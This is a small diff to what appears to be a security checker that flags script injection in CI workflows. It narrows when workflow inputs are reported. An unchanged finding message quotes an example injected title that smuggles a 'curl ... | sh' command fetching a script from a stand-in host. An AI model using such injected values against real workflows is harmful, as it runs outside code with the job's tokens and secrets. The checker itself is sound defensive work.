@@ -51,7 +51,7 @@ def check(ctx: CheckContext) -> Iterator[Finding]:
             example = ("a title such as `\"; curl -s https://x.example/p | sh; echo \"` runs "
                        "in this job, with its token and secrets.")
             severity = "error"
-        elif INPUT_CONTEXTS.search(value.written):
+        elif value.outside and INPUT_CONTEXTS.search(value.written):
             # (whoever runs or calls the workflow can change it anyway: information)
             whose = "an input's text (whoever runs or calls the workflow chooses it)"
             example = "an input with a quote or a `;` breaks the script or runs code."
